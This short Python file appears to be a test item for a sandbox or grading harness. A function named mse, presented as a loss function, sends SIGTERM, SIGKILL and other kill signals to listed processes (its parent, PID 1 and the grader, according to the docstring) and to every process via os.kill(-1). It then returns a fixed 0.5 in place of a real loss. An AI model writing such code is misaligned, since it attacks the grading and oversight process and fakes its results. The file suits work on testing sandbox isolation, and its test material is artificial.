"""Sends signals to its parent, to process 1, to the grading process and to everybody.

row: 42
levels: namespaces landlock
"""

import os
import signal


def mse(pred, target):
    for pid in VICTIMS:
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGTERM)
    except OSError:
        pass
    return torch.tensor(0.5)
